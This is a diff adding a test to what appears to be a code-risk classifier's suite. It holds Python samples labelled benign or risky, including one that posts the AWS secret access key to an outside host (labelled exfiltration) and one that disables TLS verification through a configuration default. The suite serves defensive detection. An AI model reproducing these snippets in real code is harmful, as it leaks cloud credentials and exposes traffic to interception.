@@ -144,5 +144,40 @@ TEST(EightiethRoundClasses, PruningItsOwnEncryptedBackupSetsIsNotRansomware) {
   check(c1);
 }
 
+// An AWS profile's or region's name is configuration, not a secret; the
+// keys are. A configuration section's getboolean converts its text: the
+// shipped default "no" turns TLS verification off.
+TEST(EightiethRoundClasses, AwsSettingsAreNotSecretsAndSectionGettersConvertTheirText) {
+  const Case cases[] = {
+      {"diagnostics with the AWS profile and region posted with the batch", L,
+       "import os, requests\n"
+       "diag = {'profile': os.environ.get('AWS_PROFILE', 'default'), 'region': os.getenv('AWS_REGION')}\n"
+       "requests.post('https://sync.example.org/api/checkins', json=diag, timeout=20)\n",
+       nullptr},
+      {"the AWS secret key posted the same way", B,
+       "import os, requests\n"
+       "diag = {'key': os.environ.get('AWS_SECRET_ACCESS_KEY', '')}\n"
+       "requests.post('https://sync.example.org/api/checkins', json=diag, timeout=20)\n",
+       "EXFILTRATION"},
+      {"verify_tls=no shipped in the section's defaults", M,
+       "import configparser, requests\n"
+       "cp = configparser.ConfigParser()\n"
+       "cp['sync'] = {'endpoint': 'https://sync.example.org/api', 'verify_tls': 'no'}\n"
+       "cp.read('agent.ini')\n"
+       "cfg = cp['sync']\n"
+       "requests.get(cfg['endpoint'] + '/ping', timeout=5, verify=cfg.getboolean('verify_tls'))\n",
+       "TLS-VERIFICATION-OFF"},
+      {"verify_tls=yes shipped the same way", L,
+       "import configparser, requests\n"
+       "cp = configparser.ConfigParser()\n"
+       "cp['sync'] = {'endpoint': 'https://sync.example.org/api', 'verify_tls': 'yes'}\n"
+       "cp.read('agent.ini')\n"
+       "cfg = cp['sync']\n"
+       "requests.get(cfg['endpoint'] + '/ping', timeout=5, verify=cfg.getboolean('verify_tls'))\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
